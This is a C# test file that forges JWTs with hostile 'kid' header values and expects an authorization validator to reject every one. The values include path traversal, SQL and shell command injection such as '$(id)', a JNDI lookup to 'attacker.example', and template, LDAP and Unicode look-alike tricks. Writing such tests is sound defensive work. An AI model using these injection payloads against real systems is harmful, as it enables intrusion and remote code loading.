using System.Text.Json.Nodes;

namespace Authz.Tests.Attacks;

/// <summary>A7: a <c>kid</c> that is more than a name: paths, queries, commands, look-alikes. RFC 8725 section 3.10.</summary>
internal static class KeyIds
{
    private static readonly string[] s_names =
    [
        "../../dev/null", "..\\..\\windows\\win.ini", "/dev/null", "/proc/sys/kernel/randomize_va_space", "file:///dev/null", "C:\\",
        "//host/share", "' UNION SELECT 'k", "'; DROP TABLE keys; --", "\" OR 1=1 --", "1 OR 1=1", "$(id)", "`id`", "|id", "; id", "& id",
        "%00", "%s%s%n", "${jndi:ldap://attacker.example/}", "{{7*7}}", "*)(uid=*", "<script>", "http://127.0.0.1/", "ES256\0", "\0ES256",
        "ES256\r\nX: y", "ES256\n", " ES256", "ES256 ", "es256", "ES25", "ES2566", "ES256/", "ES256#", "ES256?", "\u00C9S256",
        "E\u0301S256", "\uFF25S256", "\u0395S256", "ES256\u200B", "\u202EES256", "ES256\uFEFF", "__proto__", "constructor", "toString",
        "hasOwnProperty", "null", "undefined", "true", "0", "-1", "NaN", "keys", "kid", "\u00DF", "\u0130", "i", "I",
    ];

    private static readonly string[] s_notNames =
        ["1", "-1", "1.5", "true", "false", "null", "[]", "[\"ES256\"]", "{}", "{\"kid\":\"ES256\"}", "\"\""];

    public static IEnumerable<AttackCase> Cases() =>
    [
        .. s_names.Select(
            name => new AttackCase("A7", $"kid {name}", WithKeyId(JsonValue.Create(name)!.ToJsonString()), RefusalReason.KeyUnknown)),
        .. s_notNames.Select(value => new AttackCase("A7", $"kid is {value}", WithKeyId(value), RefusalReason.TokenMalformed)),
        new AttackCase("A7", "kid of 257 bytes", WithKeyId($"\"{new string('a', 257)}\""), RefusalReason.TokenTooLarge),
        new AttackCase("A7", "kid of 1,500 bytes", WithKeyId($"\"{new string('a', 1500)}\""), RefusalReason.TokenTooLarge),
        new AttackCase("A7", "no kid", Forged.SignHeader("""{"alg":"ES256"}"""), RefusalReason.TokenMalformed),
    ];

    private static string WithKeyId(string rawValue) => Forged.SignHeader($$"""{"alg":"ES256","kid":{{rawValue}}}""");
}
